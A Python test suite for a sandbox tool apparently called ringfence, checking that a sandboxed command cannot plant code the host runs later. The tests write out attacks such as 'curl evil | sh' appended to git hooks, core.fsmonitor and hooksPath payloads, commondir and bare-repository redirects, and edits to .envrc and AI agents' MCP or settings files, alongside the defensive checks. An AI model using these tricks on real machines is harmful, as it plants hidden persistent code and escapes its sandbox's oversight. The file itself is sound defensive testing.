"""Attack: plant code the host runs later, inside the writable workspace.

Git hooks and git config (``core.hooksPath``, ``core.fsmonitor``) run on the user's next ``git``
command; ``.envrc`` on their next ``cd`` (direnv); ``.vscode/tasks.json``, ``.mcp.json``,
``.claude/settings.json`` when their editor or agent opens the project; ``.ringfence.toml``
widens the sandbox itself. The plan keeps these read-only and uncreatable (see the module
docstring of ``ringfence.plan`` for exactly which paths, at which depth). Each test tries to write,
create, replace, move or delete one, checks the host afterwards, and runs the same attack with the
guard removed (``--profile full-access``) to show it would have worked.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from tests.conftest import World

HOOK = "#!/bin/sh\necho HOOK-RAN > \"$(git rev-parse --show-toplevel)/hook-ran\"\n"


# ---------------------------------------------------------------------------------------------
# Helpers.

def _git_env(world: World) -> dict[str, str]:
    return {**os.environ, **world.env, "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_CEILING_DIRECTORIES": str(world.base),  # never the project's own repository
            "GIT_AUTHOR_NAME": "T", "GIT_AUTHOR_EMAIL": "t@example.invalid",
            "GIT_COMMITTER_NAME": "T", "GIT_COMMITTER_EMAIL": "t@example.invalid"}


def _git(world: World, *args: str, cwd: Path, check: bool = True
         ) -> subprocess.CompletedProcess[str]:
    """``git ARGS`` on the host (outside the sandbox), as the user would run it later."""
    return subprocess.run(["git", *args], cwd=cwd, env=_git_env(world), check=check,
                          capture_output=True, text=True, timeout=30)


def _repo(world: World, path: Path) -> Path:
    """A repository with one commit at ``path``, made on the host."""
    path.mkdir(parents=True, exist_ok=True)
    _git(world, "init", "-q", "-b", "main", cwd=path)
    _git(world, "config", "user.email", "t@example.invalid", cwd=path)
    _git(world, "config", "user.name", "T", cwd=path)
    (path / "README").write_text("hello\n")
    _git(world, "add", "README", cwd=path)
    _git(world, "commit", "-q", "-m", "init", cwd=path)
    return path


def _tree(root: Path) -> dict[str, tuple[str, int]]:
    """Every path under ``root`` (relative) with its kind and size: what a leftover would show."""
    out: dict[str, tuple[str, int]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            st = os.lstat(path)
            kind = "dir" if name in dirnames else "link" if os.path.islink(path) else "file"
            out[os.path.relpath(path, root)] = (kind, 0 if kind == "dir" else st.st_size)
    return out


def _snapshot(paths: list[Path]) -> dict[str, object]:
    """Contents (files), listings (directories) or absence of each path, to compare later."""
    out: dict[str, object] = {}
    for path in paths:
        if path.is_symlink():
            out[str(path)] = ("link", os.readlink(path))
        elif path.is_dir():
            out[str(path)] = ("dir", sorted(os.listdir(path)))
        elif path.exists():
            out[str(path)] = ("file", path.read_bytes(), os.stat(path).st_mode)
        else:
            out[str(path)] = None
    return out


def _each_refused(world: World, attacks: list[str], *options: str,
                  cwd: Path | None = None) -> None:
    """Run every attack in one sandbox; each that succeeds prints ESCAPED and fails the test."""
    script = "\n".join(f"( {attack} ) >/dev/null 2>&1 && echo 'ESCAPED: {i}'"
                       for i, attack in enumerate(attacks))
    result = world.sandbox(script, *options, cwd=cwd)
    escaped = [attacks[int(line.split(": ")[1])] for line in result.stdout.splitlines()
               if line.startswith("ESCAPED: ")]
    assert not escaped, f"these attacks succeeded in the sandbox: {escaped}"


def _each_works_unsandboxed(world: World, attacks: list[str], cwd: Path | None = None) -> None:
    """The control: with the guard removed, every attack works (run one by one, in order)."""
    for attack in attacks:
        result = world.unsandboxed(attack, cwd=cwd)
        assert result.returncode == 0, f"control {attack!r} failed: {result.stderr}"


def _start(world: World, script: str, cwd: Path | None = None) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "ringfence", "run", "--", "/bin/sh", "-c", script],
        cwd=cwd or world.workspace, env=dict(world.env), stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True,
    )


def _wait_for(path: Path, timeout: float = 10) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists():
        assert time.monotonic() < deadline, f"{path} never appeared"
        time.sleep(0.02)


WAIT = "n=0; while [ ! -e {go} ] && [ $n -lt 400 ]; do sleep 0.025; n=$((n+1)); done"


# ---------------------------------------------------------------------------------------------
# The repository at the top of the workspace.

def test_write_git_hook(world: World) -> None:
    """Create ``.git/hooks/pre-commit``: runs on the user's next ``git commit``."""
    world.git_init()
    hook = world.workspace / ".git" / "hooks" / "pre-commit"
    script = f"printf '{HOOK}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
    assert world.sandbox(script).returncode != 0
    assert not hook.exists()
    assert world.unsandboxed(script).returncode == 0
    assert hook.exists()


def test_overwrite_existing_git_hook(world: World) -> None:
    """Replace a hook the user already has (overwrite in place, and by rename over it)."""
    world.git_init()
    hook = world.workspace / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    attacks = ["echo 'curl evil | sh' >> .git/hooks/pre-commit",
               "echo 'curl evil | sh' > evil && mv -f evil .git/hooks/pre-commit",
               "ln -sf /bin/true .git/hooks/post-checkout",
               "chmod 777 .git/hooks/pre-commit"]
    _each_refused(world, attacks)
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    assert hook.stat().st_mode & 0o777 == 0o755
    assert not (world.workspace / ".git" / "hooks" / "post-checkout").exists()
    _each_works_unsandboxed(world, attacks)
    assert "evil" in hook.read_text()


@pytest.mark.parametrize("edit", [
    "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
    "sed -i 's/bare = false/bare = false\\n\\tfsmonitor = evil/' .git/config",
    "cp .git/config c && printf '[core]\\n\\tfsmonitor = evil\\n' >> c && mv -f c .git/config",
])
def test_edit_git_config(world: World, edit: str) -> None:
    """Edit ``.git/config`` directly (append, ``sed -i``, replace by rename): ``core.hooksPath``
    or ``core.fsmonitor`` name a program git runs on the user's next command."""
    world.git_init()
    config = world.workspace / ".git" / "config"
    before = config.read_bytes()
    assert world.sandbox(edit).returncode != 0
    assert config.read_bytes() == before
    assert world.unsandboxed(edit).returncode == 0
    assert config.read_bytes() != before


@pytest.mark.parametrize("key", ["core.fsmonitor", "core.hooksPath", "core.sshCommand"])
def test_git_config_command(world: World, key: str) -> None:
    """``git config KEY evil`` from inside (git's own lock-and-rename write of .git/config)."""
    world.git_init()
    config = world.workspace / ".git" / "config"
    before = config.read_bytes()
    script = f"git config {key} 'touch /tmp/pwned'"
    assert world.sandbox(script).returncode != 0
    assert config.read_bytes() == before
    assert _git(world, "config", key, cwd=world.workspace, check=False).stdout == ""
    assert world.unsandboxed(script).returncode == 0
    assert _git(world, "config", key, cwd=world.workspace).stdout.strip() == "touch /tmp/pwned"


def test_create_git_config_worktree(world: World) -> None:
    """Create the missing ``.git/config.worktree`` (read when extensions.worktreeConfig is set)."""
    world.git_init()
    path = world.workspace / ".git" / "config.worktree"
    script = "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config.worktree"
    assert world.sandbox(script).returncode != 0
    assert not path.exists()
    assert world.unsandboxed(script).returncode == 0
    assert path.exists()


@pytest.mark.parametrize("name", [
    ".envrc", ".vscode/tasks.json", ".mcp.json", ".claude/settings.json", ".ringfence.toml",
    ".idea/workspace.xml", ".cursor/mcp.json", ".codex/config.toml", ".agents/x.md",
    # found in a red-team pass: other agents' and tools' settings that start programs
    ".gemini/settings.json", "opencode.json", "opencode.jsonc", ".opencode/opencode.json",
    ".roo/mcp.json", ".kiro/settings/mcp.json", ".amazonq/mcp.json",
    ".continue/mcpServers/x.yaml", ".aider.conf.yml", ".devcontainer/devcontainer.json",
])
def test_create_missing_protected_name(world: World, name: str) -> None:
    """Create a protected file that does not exist yet (with its directory, where it has one)."""
    path = world.workspace / name
    top = world.workspace / name.split("/")[0]
    script = f"mkdir -p \"$(dirname {name})\"; printf 'profile = \"full-access\"\\n' > {name}"
    assert world.sandbox(script).returncode != 0
    assert not top.exists()  # not even an empty directory or placeholder was left
    assert world.unsandboxed(script).returncode == 0
    assert path.exists()


def test_existing_protected_dir_read_only(world: World) -> None:
    """An existing ``.vscode`` directory: adding ``tasks.json`` or changing a file in it fails."""
    vscode = world.workspace / ".vscode"
    vscode.mkdir()
    (vscode / "settings.json").write_text("{}\n")
    attacks = ["echo '{\"tasks\": []}' > .vscode/tasks.json",
               "echo '{\"x\": 1}' > .vscode/settings.json",
               "mv .vscode .vscode.old",
               "rm -rf .vscode"]
    before = _snapshot([vscode, vscode / "settings.json"])
    _each_refused(world, attacks)
    assert _snapshot([vscode, vscode / "settings.json"]) == before
    _each_works_unsandboxed(world, attacks[:2])
    assert (vscode / "tasks.json").exists()


def test_replace_git_by_renaming_it(world: World) -> None:
    """Move the whole ``.git`` away and build a new one with a hook in its place."""
    world.git_init()
    hooks = world.workspace / ".git" / "hooks"
    script = (f"mv .git .git2 && mkdir -p .git/hooks && cp -r .git2/. .git/ 2>/dev/null; "
              f"printf '{HOOK}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
    assert world.sandbox(script).returncode != 0
    assert not (world.workspace / ".git2").exists()
    assert not (hooks / "pre-commit").exists()
    assert _git(world, "log", "--oneline", cwd=world.workspace).stdout.count("\n") == 1
    assert world.unsandboxed(script).returncode == 0
    assert (hooks / "pre-commit").exists()


def test_rename_hooks_dir_away(world: World) -> None:
    """Rename ``.git/hooks`` (or ``.git/config``) away and create a new one in its place."""
    world.git_init()
    git = world.workspace / ".git"
    watched = [git / "hooks", git / "config", git / "hooks.old", git / "config.old"]
    before = _snapshot(watched)
    attacks = [f"mv .git/hooks .git/hooks.old && mkdir .git/hooks && "
               f"printf '{HOOK}' > .git/hooks/pre-commit",
               "mv .git/config .git/config.old && printf '[core]\\n\\tfsmonitor = x\\n' "
               "> .git/config"]
    _each_refused(world, attacks)
    assert _snapshot(watched) == before
    _each_works_unsandboxed(world, attacks)
    assert (git / "hooks.old").exists()


def test_delete_git_config(world: World) -> None:
    """Delete ``.git/config`` (git would then use defaults the attacker prepared elsewhere)."""
    world.git_init()
    config = world.workspace / ".git" / "config"
    before = config.read_bytes()
    script = "rm -f .git/config && test ! -e .git/config"
    assert world.sandbox(script).returncode != 0
    assert config.read_bytes() == before
    assert world.unsandboxed(script).returncode == 0
    assert not config.exists()


def test_rm_rf_git(world: World) -> None:
    """``rm -rf .git``: the hooks and config must survive. (The objects may go: the workspace is
    the command's to delete; what must not change is what the host later executes or obeys.)"""
    world.git_init()
    git = world.workspace / ".git"
    hook = git / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    watched = [git, git / "hooks", hook, git / "config"]
    config_before = (git / "config").read_bytes()
    script = "rm -rf .git && test ! -e .git"
    assert world.sandbox(script).returncode != 0
    assert (git / "config").read_bytes() == config_before
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    assert git.is_dir()
    assert world.unsandboxed(script).returncode == 0
    assert _snapshot(watched)[str(git)] is None


def test_git_init_without_repository_fails(world: World) -> None:
    """No ``.git`` at the top of the workspace: the sandbox cannot create one (documented: a
    missing protected name is covered by a placeholder), so it cannot create hooks with it."""
    script = "git init -q . && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"
    assert world.sandbox(script).returncode != 0
    assert not (world.workspace / ".git").exists()
    assert os.listdir(world.workspace) == []
    assert world.unsandboxed(script).returncode == 0
    assert (world.workspace / ".git" / "hooks" / "pre-commit").exists()


def test_git_commondir_redirect(world: World) -> None:
    """Create ``.git/commondir`` naming a directory of the attacker's with a ``config`` and a
    ``hooks/pre-commit``: git reads the common dir from it for every repository, so the host's
    next ``git commit`` runs the planted hook although ``.git/hooks`` and ``.git/config`` are
    untouched."""
    world.git_init()
    script = (
        "set -e; rm -rf evil; mkdir -p evil/hooks; cp -r .git/objects .git/refs evil/; "
        "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n' > evil/config; "
        f"printf '{HOOK}' > evil/hooks/pre-commit; chmod +x evil/hooks/pre-commit; "
        "echo ../evil > .git/commondir"
    )

    def host_commit() -> bool:
        (world.workspace / "change.txt").write_text(str(time.monotonic()))
        _git(world, "add", "change.txt", cwd=world.workspace)
        _git(world, "commit", "-q", "-m", "user's commit", cwd=world.workspace, check=False)
        return (world.workspace / "hook-ran").exists()

    world.sandbox(script)
    commondir = world.workspace / ".git" / "commondir"
    assert not commondir.exists(), "the sandbox created .git/commondir"
    assert not host_commit()
    assert world.unsandboxed(script).returncode == 0
    assert host_commit()  # the control: the redirect really runs the planted hook


def _bare_repository_attack(world: World, marker: Path, *, break_dotgit: bool) -> str:
    """Make the workspace's top a bare repository (HEAD, objects/, refs/ and a config whose
    core.worktree is the workspace and whose core.fsmonitor is the payload)."""
    broken = "mv .git/HEAD .git/HEAD.orig; " if break_dotgit else ""
    config = ("[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
              f"\\tworktree = {world.workspace}\\n"
              f"\\tfsmonitor = \\\"echo PWNED > {marker}; false\\\"\\n")
    return (f"{broken}echo 'ref: refs/heads/main' > HEAD; mkdir -p objects; mkdir -p refs; "
            f"printf \"{config}\" > config; test -d objects && test -d refs && test -f HEAD")


@pytest.mark.parametrize("break_dotgit", [True, False], ids=["broken-dotgit", "no-dotgit"])
def test_bare_repository_at_the_top(world: World, break_dotgit: bool) -> None:
    """The command breaks ``.git/HEAD`` (writable: commits change it), or there is no ``.git``
    at all, and creates ``HEAD``, ``objects/``, ``refs/`` and a ``config`` at the top. git then
    takes the workspace itself for a bare repository, and that config's ``core.fsmonitor``
    runs on the user's next plain ``git status`` there, on the host. ``objects`` at the top of
    a writable root cannot be created (``refs``, or ``HEAD``, where the project has an
    ``objects``), nor a ``HEAD`` that exists changed."""
    if break_dotgit:
        world.git_init()
    marker = world.outside / "pwned"
    script = _bare_repository_attack(world, marker, break_dotgit=break_dotgit)
    world.sandbox(script)
    _git(world, "status", cwd=world.workspace, check=False)
    assert not marker.exists(), "the host's git status ran the planted fsmonitor"
    assert not (world.workspace / "objects").exists()
    for name in ("HEAD", "refs", "config", "objects"):  # clean up for the control
        subprocess.run(["rm", "-rf", str(world.workspace / name)], check=True)
    assert world.unsandboxed(script).returncode == 0
    _git(world, "status", cwd=world.workspace, check=False)
    assert marker.exists()  # the control: the bare-repository trick really runs the payload


def test_existing_head_at_the_top_keeps_root_git_files(world: World) -> None:
    """A writable root that has a ``HEAD`` (a bare repository used as the workspace, or a
    project file so named) may itself be a git directory: its ``hooks``, ``config``,
    ``commondir`` and ``config.worktree`` are protected like those in ``.git``."""
    (world.workspace / "HEAD").write_text("ref: refs/heads/main\n")
    attacks = ["echo x > HEAD", "mkdir hooks", "echo '[core]' > config", "echo . > commondir"]
    _each_refused(world, attacks)
    _each_works_unsandboxed(world, attacks)


# ---------------------------------------------------------------------------------------------
# Files the repository's config names: hooks directory, included config, commands' scripts.

def _status_runs_it_only_unsandboxed(world: World, script: str, marker: Path) -> None:
    """``script`` run in the sandbox leaves the host's next ``git status`` harmless; the same
    script run without the guard (full-access) makes that ``git status`` write ``marker``."""
    world.sandbox(script)
    _git(world, "status", cwd=world.workspace, check=False)
    assert not marker.exists(), "the host's git status ran what the sandbox planted"
    assert world.unsandboxed(script).returncode == 0
    _git(world, "status", cwd=world.workspace, check=False)
    assert marker.exists()  # the control


def _host_commit(world: World) -> None:
    (world.workspace / "change.txt").write_text(str(time.monotonic()))
    _git(world, "add", "change.txt", cwd=world.workspace)
    _git(world, "commit", "-q", "-m", "user's commit", cwd=world.workspace, check=False)


def test_husky_hooks_path(world: World) -> None:
    """husky sets ``core.hooksPath = .husky/_``, a directory git ignores: the command rewrites
    ``.husky/_/pre-commit``, ``git status`` shows nothing, and the user's next ``git commit``
    on the host runs it. The directory the config names is read-only."""
    world.git_init()
    hooks = world.workspace / ".husky" / "_"
    hooks.mkdir(parents=True)
    (hooks / ".gitignore").write_text("*\n")
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (hooks / "pre-commit").chmod(0o755)
    _git(world, "config", "core.hooksPath", ".husky/_", cwd=world.workspace)
    script = f"printf '{HOOK}' > .husky/_/pre-commit"
    world.sandbox(script)
    _host_commit(world)
    assert not (world.workspace / "hook-ran").exists(), "the planted husky hook ran"
    assert world.unsandboxed(script).returncode == 0
    _host_commit(world)
    assert (world.workspace / "hook-ran").exists()  # the control


def test_missing_hooks_path_cannot_be_created(world: World) -> None:
    """``core.hooksPath`` names a directory that does not exist yet (husky not installed):
    the command cannot create it, nor any missing directory above it, with a hook in it."""
    world.git_init()
    _git(world, "config", "core.hooksPath", "tools/git/hooks", cwd=world.workspace)
    script = f"mkdir -p tools/git/hooks && printf '{HOOK}' > tools/git/hooks/pre-commit && " \
             "chmod +x tools/git/hooks/pre-commit"
    world.sandbox(script)
    assert not (world.workspace / "tools").exists()
    assert world.unsandboxed(script).returncode == 0
    _host_commit(world)
    assert (world.workspace / "hook-ran").exists()  # the control


def test_included_config_file(world: World) -> None:
    """The project asks its developers to ``git config include.path ../.gitconfig``: that file
    is read as part of ``.git/config``, so a ``core.fsmonitor`` the command adds to it would run
    on the host's next ``git status``. It is read-only."""
    world.git_init()
    (world.workspace / ".gitconfig").write_text("[diff]\n\trenames = true\n")
    _git(world, "config", "include.path", "../.gitconfig", cwd=world.workspace)
    marker = world.outside / "pwned"
    script = (f"printf '[core]\\n\\tfsmonitor = \"echo PWNED > {marker}; false\"\\n' "
              ">> .gitconfig")
    _status_runs_it_only_unsandboxed(world, script, marker)


def test_missing_included_config_file(world: World) -> None:
    """The repository's config includes an optional file that does not exist yet
    (``include.path = ../.gitconfig.local``, a per-developer file git skips when missing): the
    command creates it with a ``core.fsmonitor``, which the host's next ``git status`` would
    run. It cannot be created (a file placeholder, which git reads as no settings: git keeps
    working inside and, while the command runs, outside), and nothing is left of it after."""
    world.git_init()
    _git(world, "config", "include.path", "../.gitconfig.local", cwd=world.workspace)
    local = world.workspace / ".gitconfig.local"
    marker = world.outside / "pwned"
    plant = (f"printf '[core]\\n\\tfsmonitor = \"echo PWNED > {marker}; false\"\\n' "
             "> .gitconfig.local")
    inside = world.sandbox(f"{plant}; git status --short >/dev/null && echo GIT-WORKS")
    assert "GIT-WORKS" in inside.stdout, inside.stdout + inside.stderr
    assert not local.exists()  # the placeholder is gone with the run
    _status_runs_it_only_unsandboxed(world, plant, marker)


def test_script_a_git_setting_runs(world: World) -> None:
    """The repository's ``core.fsmonitor`` is a script of the project's (``tools/watch.sh``):
    the command rewrites the script, and git runs it on the host's next ``git status``."""
    world.git_init()
    tools = world.workspace / "tools"
    tools.mkdir()
    (tools / "watch.sh").write_text("#!/bin/sh\nexit 1\n")
    (tools / "watch.sh").chmod(0o755)
    _git(world, "config", "core.fsmonitor", "tools/watch.sh", cwd=world.workspace)
    marker = world.outside / "pwned"
    script = f"printf '#!/bin/sh\\necho PWNED > {marker}\\nexit 1\\n' > tools/watch.sh"
    _status_runs_it_only_unsandboxed(world, script, marker)


def _plant_hook(path: str) -> str:
    return f"mkdir -p {path} && printf '{HOOK}' > {path}/pre-commit && chmod +x {path}/pre-commit"


def test_workspace_inside_a_larger_repository(world: World) -> None:
    """The workspace is one package of a monorepo (``--workspace frontend``) whose config
    names ``frontend/.husky/_`` as its hooks: the repository is above the workspace, and its
    config still decides what the host's next commit runs."""
    world.git_init()
    _git(world, "config", "core.hooksPath", "frontend/.husky/_", cwd=world.workspace)
    package = world.workspace / "frontend"
    (package / ".husky" / "_").mkdir(parents=True)
    script = _plant_hook(".husky/_")
    world.sandbox(script, "--workspace", str(package), cwd=package)
    _host_commit(world)
    assert not (world.workspace / "hook-ran").exists(), "the planted hook ran"
    assert world.unsandboxed(script, cwd=package).returncode == 0
    _host_commit(world)
    assert (world.workspace / "hook-ran").exists()  # the control


def test_repository_one_level_down_hooks_path(world: World) -> None:
    """A repository one level below the workspace's top (``proj/.git``) with husky's
    ``core.hooksPath``: its hooks directory is protected like the top repository's."""
    proj = _repo(world, world.workspace / "proj")
    _git(world, "config", "core.hooksPath", ".husky/_", cwd=proj)
    (proj / ".husky" / "_").mkdir(parents=True)
    script = _plant_hook("proj/.husky/_")
    world.sandbox(script)

    def commit() -> bool:
        (proj / "change.txt").write_text(str(time.monotonic()))
        _git(world, "add", "change.txt", cwd=proj)
        _git(world, "commit", "-q", "-m", "c", cwd=proj, check=False)
        return (proj / "hook-ran").exists()

    assert not commit(), "the planted hook ran"
    assert world.unsandboxed(script).returncode == 0
    assert commit()  # the control


def test_hooks_path_from_the_users_global_config(world: World) -> None:
    """An organisation sets ``core.hooksPath = .githooks`` in the global (or system) config:
    every repository's ``.githooks`` then holds its hooks, so the workspace's cannot be
    created."""
    world.git_init()
    config = world.base / "global.gitconfig"
    config.write_text("[core]\n\thooksPath = .githooks\n")
    env = {"GIT_CONFIG_GLOBAL": str(config)}
    script = _plant_hook(".githooks")
    world.sandbox(script, env=env)
    assert not (world.workspace / ".githooks").exists()
    assert world.unsandboxed(script, env=env).returncode == 0


def test_script_named_without_a_slash(world: World) -> None:
    """``core.fsmonitor = sh fsmon.sh``: the script is a word of the command without a slash;
    it is protected like ``./fsmon.sh`` would be."""
    world.git_init()
    (world.workspace / "fsmon.sh").write_text("exit 1\n")
    _git(world, "config", "core.fsmonitor", "sh fsmon.sh", cwd=world.workspace)
    marker = world.outside / "pwned"
    script = f"echo 'echo PWNED > {marker}; exit 1' > fsmon.sh"
    _status_runs_it_only_unsandboxed(world, script, marker)


# ---------------------------------------------------------------------------------------------
# Other layouts: linked worktrees, a .git file pointing into the workspace, nested repositories.

def _worktree(world: World, main: Path) -> Path:
    """A main repository at ``main`` with a linked worktree as the (empty) workspace."""
    _repo(world, main)
    _git(world, "worktree", "add", "-q", "-b", "wt", str(world.workspace), cwd=main)
    return main / ".git" / "worktrees" / world.workspace.name


def test_linked_worktree_main_repo_outside(world: World) -> None:
    """The workspace is a linked worktree (``.git`` is a file) of a repository outside every
    writable root: its hooks, config and the worktree's gitdir are read-only like all outside."""
    main = world.outside / "main"
    gitdir = _worktree(world, main)
    watched = [main / ".git" / "hooks", main / ".git" / "config", gitdir / "config",
               gitdir / "commondir", world.workspace / ".git"]
    before = _snapshot(watched)
    attacks = [
        f"printf '{HOOK}' > {main}/.git/hooks/pre-commit",
        f"printf '[core]\\n\\thooksPath = /x\\n' >> {main}/.git/config",
        "git config core.fsmonitor evil",
        f"printf '[core]\\n\\tfsmonitor = evil\\n' > {gitdir}/config",
        f"echo /elsewhere > {gitdir}/commondir",
        "echo 'gitdir: /elsewhere' > .git",
    ]
    visible = world.sandbox(f"cat {main}/.git/HEAD")
    assert "refs/heads/main" in visible.stdout, visible.stderr
    _each_refused(world, attacks)
    assert _snapshot(watched) == before
    _each_works_unsandboxed(world, attacks[:4])


def test_linked_worktree_main_repo_writable(world: World) -> None:
    """The same, with the main repository given as another writable root (so commits from the
    worktree can work, see ``tests/test_workflow.py``): its hooks and config, and the worktree's
    own gitdir entries, stay read-only; the parents are pinned so none can be renamed away."""
    main = world.outside / "main"
    gitdir = _worktree(world, main)
    opts = ("--writable", str(main))
    watched = [main / ".git" / "hooks", main / ".git" / "config", main / ".envrc",
               gitdir / "config", gitdir / "config.worktree", world.workspace / ".git",
               main / ".git" / "worktrees"]
    before = _snapshot(watched)
    attacks = [
        f"printf '{HOOK}' > {main}/.git/hooks/pre-commit",
        f"printf '[core]\\n\\thooksPath = /x\\n' >> {main}/.git/config",
        "git config core.fsmonitor evil",
        f"printf '[core]\\n\\tfsmonitor = evil\\n' > {gitdir}/config",
        f"printf '[core]\\n\\tfsmonitor = evil\\n' > {gitdir}/config.worktree",
        "echo 'gitdir: /elsewhere' > .git",
        f"mv {gitdir} {gitdir}.old",
        f"mv {main}/.git {main}/.git.old",
        f"echo 'eval evil' > {main}/.envrc",
    ]
    _each_refused(world, attacks, *opts)
    assert _snapshot(watched) == before
    _each_works_unsandboxed(world, attacks[:2])


def test_linked_worktree_commondir_rewrite(world: World) -> None:
    """With the main repository writable, rewrite ``.git/worktrees/NAME/commondir`` to name a
    directory of the attacker's: git in the worktree then takes config and hooks from there."""
    main = world.outside / "main"
    gitdir = _worktree(world, main)
    commondir = gitdir / "commondir"
    before = commondir.read_text()
    script = f"echo {world.workspace}/evil > {commondir}"
    world.sandbox(script, "--writable", str(main))
    assert commondir.read_text() == before
    assert world.unsandboxed(script).returncode == 0
    assert commondir.read_text() != before


def test_gitdir_file_into_workspace(world: World) -> None:
    """Submodule-style layout: ``.git`` is a file (``gitdir: .git-real``) and the git directory
    is inside the workspace. Its hooks and config, the ``.git`` file, and the git directory's
    name are all protected."""
    _git(world, "init", "-q", "-b", "main", "--separate-git-dir",
         str(world.workspace / ".git-real"), str(world.workspace), cwd=world.workspace)
    real = world.workspace / ".git-real"
    watched = [real / "hooks", real / "config", real / "config.worktree",
               world.workspace / ".git", world.workspace / ".git-real.old"]
    before = _snapshot(watched)
    attacks = [
        f"printf '{HOOK}' > .git-real/hooks/pre-commit",
        "printf '[core]\\n\\thooksPath = /x\\n' >> .git-real/config",
        "git config core.fsmonitor evil",
        "printf '[core]\\n\\tfsmonitor = x\\n' > .git-real/config.worktree",
        "echo 'gitdir: evil' > .git",
        "mv .git git.old",
        "mv .git-real .git-real.old && mkdir -p .git-real/hooks",
        "mv .git-real/hooks .git-real/hooks.old",
    ]
    _each_refused(world, attacks)
    assert _snapshot(watched) == before
    assert _git(world, "status", "--porcelain", cwd=world.workspace).returncode == 0
    _each_works_unsandboxed(world, attacks[:3])


def test_gitdir_file_into_workspace_commondir(world: World) -> None:
    """In the submodule-style layout, create ``.git-real/commondir`` pointing elsewhere."""
    _git(world, "init", "-q", "-b", "main", "--separate-git-dir",
         str(world.workspace / ".git-real"), str(world.workspace), cwd=world.workspace)
    commondir = world.workspace / ".git-real" / "commondir"
    script = "echo ../evil > .git-real/commondir"
    world.sandbox(script)
    assert not commondir.exists()
    assert world.unsandboxed(script).returncode == 0


def test_subdirectory_repository(world: World) -> None:
    """A repository one level down (``sub/.git``, existing): its hooks and config are protected
    too, and ``sub/.git`` cannot be renamed away."""
    sub = _repo(world, world.workspace / "sub")
    git = sub / ".git"
    watched = [git / "hooks", git / "config", git / "config.worktree", sub / ".git.old"]
    before = _snapshot(watched)
    attacks = [
        f"printf '{HOOK}' > sub/.git/hooks/pre-commit",
        "printf '[core]\\n\\thooksPath = /x\\n' >> sub/.git/config",
        "git -C sub config core.fsmonitor evil",
        "mv sub/.git sub/.git.old && mkdir -p sub/.git/hooks",
        "mv sub/.git/hooks sub/.git/hooks.old",
    ]
    _each_refused(world, attacks)
    assert _snapshot(watched) == before
    _each_works_unsandboxed(world, attacks[:3])


def test_subdirectory_repository_replaced_by_renaming_its_directory(world: World) -> None:
    """Rename the directory that holds the sub-repository and create a new repository with a
    hook under the old name: the user's next ``git commit`` in ``sub`` runs it."""
    sub = _repo(world, world.workspace / "sub")
    script = (f"mv sub sub.orig && git init -q sub && printf '{HOOK}' > sub/.git/hooks/pre-commit"
              " && chmod +x sub/.git/hooks/pre-commit")
    world.sandbox(script)
    assert not (world.workspace / "sub.orig").exists(), "sub was renamed away"
    assert not (sub / ".git" / "hooks" / "pre-commit").exists()
    assert world.unsandboxed(script).returncode == 0


def test_submodule_gitdir_replaced_by_renaming_modules(world: World) -> None:
    """A submodule's git directory lives in ``.git/modules/lib``; its hooks are protected, but
    moving ``.git/modules`` aside and making a new ``.git/modules/lib`` swaps them for the
    attacker's (the submodule's ``.git`` file names the path, not the inode)."""
    world.git_init()
    modules = world.workspace / ".git" / "modules"
    _git(world, "init", "-q", "--bare", str(modules / "lib"), cwd=world.workspace)
    script = ("mv .git/modules .git/modules.orig && git init -q --bare .git/modules/lib && "
              f"printf '{HOOK}' > .git/modules/lib/hooks/post-checkout")
    world.sandbox(script)
    assert not (world.workspace / ".git" / "modules.orig").exists(), ".git/modules was renamed"
    assert not (modules / "lib" / "hooks" / "post-checkout").exists()
    assert world.unsandboxed(script).returncode == 0


def _with_submodule(world: World, repo: Path, path: str) -> None:
    """``git submodule add`` of a small repository (made outside the workspace) at ``path``."""
    upstream = _repo(world, world.outside / ("upstream-" + path.replace("/", "-")))
    _git(world, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(upstream),
         path, cwd=repo)
    _git(world, "commit", "-q", "-m", "submodule", cwd=repo)


FSMONITOR = "touch {marker}; false"


@pytest.mark.parametrize("layout", ["name-with-slash", "one-level-down"])
def test_submodule_config_and_pointer(world: World, layout: str) -> None:
    """Found in a red-team pass. git keeps a submodule's git directory in
    ``.git/modules/<name>``, and the name is its path, slashes and all (``git submodule add URL
    libs/foo`` gives ``.git/modules/libs/foo``); a repository one level down has submodules of
    its own. The command sets ``core.fsmonitor`` in the submodule's config, or points the
    checkout's ``.git`` file at a git directory of its own making with one; the host's next
    plain ``git status`` recurses into the submodule and runs it."""
    marker = world.outside / "submodule-fsmonitor-ran"
    if layout == "name-with-slash":
        world.git_init()
        repo, rel = world.workspace, ""
    else:
        repo, rel = _repo(world, world.workspace / "backend"), "backend/"
    _with_submodule(world, repo, "libs/foo")
    cmd = FSMONITOR.format(marker=marker)
    attacks = [
        f"git config -f {rel}.git/modules/libs/foo/config core.fsmonitor '{cmd}'",
        (f"git init -q --bare {rel}evil.git && git config -f {rel}evil.git/config core.fsmonitor"
         f" '{cmd}' && git config -f {rel}evil.git/config core.worktree ../libs/foo && "
         f"echo 'gitdir: ../../evil.git' > {rel}libs/foo/.git"),
    ]
    for attack in attacks:
        world.sandbox(attack)
        _git(world, "status", cwd=repo, check=False)
        assert not marker.exists(), f"the host's git status ran what {attack!r} planted"
    # the control: without the guard, each makes the host's git status run the command
    for attack in attacks:
        assert world.unsandboxed(attack).returncode == 0, attack
